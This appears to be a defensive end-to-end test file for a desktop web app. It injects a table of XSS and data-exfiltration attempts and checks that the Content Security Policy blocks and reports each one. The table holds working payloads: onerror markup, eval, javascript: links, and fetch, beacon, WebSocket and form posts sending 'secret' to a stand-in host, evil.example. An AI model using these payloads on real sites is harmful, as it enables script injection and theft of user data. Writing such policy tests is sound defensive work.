// The page's policy, tried by injecting what an attacker would: nothing of it runs, loads or leaves, and the browser
// reports each try. A normal walk through the app violates nothing (see offline.e2e.ts).
import { expect, test } from 'vitest';
import { openApp } from '../support/app.ts';

/** What to inject, and the directive that must stop it. `ran`, `add` and `link` are the page's, given below. */
const injections: Readonly<Record<string, readonly [code: string, directive: string]>> = {
  'inline script': [`add('script', { textContent: 'ran()' })`, 'require-trusted-types-for'],
  'remote script': [`add('script', { src: 'https://evil.example/x.js' })`, 'require-trusted-types-for'],
  'data: script': [`add('script', { src: 'data:text/javascript,ran()' })`, 'require-trusted-types-for'],
  'inline handler': [`const b = add('b', {}); b.setAttribute('onclick', 'ran()'); b.click()`, 'require-trusted-types-for'],
  'markup by innerHTML': [`add('div', {}).innerHTML = '<img src=x onerror=ran()>'`, 'require-trusted-types-for'],
  'markup by insertAdjacentHTML': [`document.body.insertAdjacentHTML('beforeend', '<svg onload=ran()>')`, 'require-trusted-types-for'],
  'markup by document.write': [`document.write('<script>ran()</script>')`, 'require-trusted-types-for'],
  'srcdoc frame': [`add('iframe', {}).srcdoc = '<script>parent.ran()</script>'`, 'require-trusted-types-for'],
  'DOMParser and adoption': [`document.body.append(new DOMParser().parseFromString('<img src=x onerror=ran()>', 'text/html').body)`, 'require-trusted-types-for'],
  'a policy of trusted types': [`trustedTypes.createPolicy('x', { createScript: (s) => s })`, 'trusted-types'],
  'eval': [`(0, eval)('ran()')`, 'require-trusted-types-for'],
  'new Function': [`new Function('ran()')()`, 'require-trusted-types-for'],
  'setTimeout of text': [`setTimeout('ran()')`, 'require-trusted-types-for'],
  'javascript: link': [`add('a', { href: 'javascript:ran()' }).click()`, 'script-src-elem'],
  'javascript: frame': [`add('iframe', { src: 'javascript:parent.ran()' })`, 'script-src-elem'],
  'data: frame': [`add('iframe', { src: 'data:text/html,<script>parent.ran()</script>' })`, 'frame-src'],
  'foreign frame': [`add('iframe', { src: 'https://evil.example/' })`, 'frame-src'],
  'own page as a frame': [`add('iframe', { src: 'app://ui/index.html' })`, 'frame-src'],
  'object': [`add('object', { data: 'data:text/html,<script>ran()</script>' })`, 'require-trusted-types-for'],
  'embed': [`add('embed', { src: 'data:text/html,hi' })`, 'require-trusted-types-for'],
  'worker of a blob': [`new Worker(URL.createObjectURL(new Blob(['ran()'])))`, 'require-trusted-types-for'],
  'module import of data': [`import('data:text/javascript,ran()')`, 'script-src-elem'],
  'inline style': [`add('style', { textContent: 'body { background: url(https://evil.example/a) }' })`, 'style-src-elem'],
  'foreign stylesheet': [`link('stylesheet', 'https://evil.example/x.css')`, 'style-src-elem'],
  'style attribute': [`add('div', {}).setAttribute('style', 'background: url(https://evil.example/a)')`, 'style-src-attr'],
  'foreign image': [`add('img', { src: 'https://evil.example/x.png?secret' })`, 'img-src'],
  'foreign font': [`new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => 0)`, 'font-src'],
  'foreign media': [`add('video', { src: 'https://evil.example/x.mp4' })`, 'media-src'],
  'fetch': [`fetch('https://evil.example/?secret').catch(() => 0)`, 'connect-src'],
  'fetch of our own origin': [`fetch('app://ui/index.html').catch(() => 0)`, 'connect-src'],
  'XMLHttpRequest': [`const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/'); x.send()`, 'connect-src'],
  'beacon': [`navigator.sendBeacon('https://evil.example/', 'secret')`, 'connect-src'],
  'WebSocket': [`new WebSocket('wss://evil.example/')`, 'connect-src'],
  'EventSource': [`new EventSource('https://evil.example/')`, 'connect-src'],
  'form post': [`add('form', { action: 'https://evil.example/', method: 'post' }).submit()`, 'form-action'],
  'base': [`document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`, 'base-uri'],
  'prefetch': [`link('prefetch', 'https://evil.example/x')`, 'default-src'],
}; // prettier-ignore

test(`each of ${Object.keys(injections).length} injections is stopped and reported`, async () => {
  const { app, page } = await openApp();
  await app.evaluate(({ session }) => {
    const sent: string[] = [];
    Object.assign(globalThis, { sent });
    session.defaultSession.webRequest.onSendHeaders((request) => void sent.push(request.url));
  });
  await page.evaluate(() => {
    const reports: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective));
    const tools: Tools = {
      reports,
      executions: [],
      ran: () => void tools.executions.push('ran'),
      add: (tag, properties) =>
        document.body.appendChild(Object.assign(document.createElement(tag), properties)),
      link: (rel, href) =>
        document.head.appendChild(Object.assign(document.createElement('link'), { rel, href })),
    };
    Object.assign(globalThis, tools);
  });
  const failures: string[] = [];
  for (const [name, [code, directive]] of Object.entries(injections)) {
    await page.evaluate(() => (reports.length = 0));
    // By a timer: what the debugger itself runs is allowed more than a page.
    await page.evaluate(`setTimeout(() => { ${code} })`);
    await wait(150);
    const told = await page.evaluate(() => ({ reports: [...reports], executions: [...executions] }));
    if (told.executions.length > 0) failures.push(`${name}: it ran`);
    if (!told.reports.includes(directive))
      failures.push(`${name}: reported ${told.reports.join(', ') || 'nothing'}, not ${directive}`);
  }
  expect(failures).toEqual([]);
  const sent = await app.evaluate(() => (globalThis as unknown as { sent: string[] }).sent);
  expect(sent.filter((url) => !url.startsWith('app://ui/') && !/^(devtools|data|blob):/.test(url))).toEqual(
    [],
  );
});

test('a webview cannot be attached', async () => {
  const { app, page } = await openApp();
  await page.evaluate(() => {
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.example/');
    view.setAttribute('nodeintegration', '');
    document.body.append(view);
  });
  await wait(500);
  expect(await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1);
});

interface Tools {
  readonly reports: string[];
  readonly executions: string[];
  ran(): void;
  add(tag: string, properties: object): HTMLElement;
  link(rel: string, href: string): void;
}

// What the page is given before the attacks, by name.
declare const reports: string[];
declare const executions: string[];
function wait(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
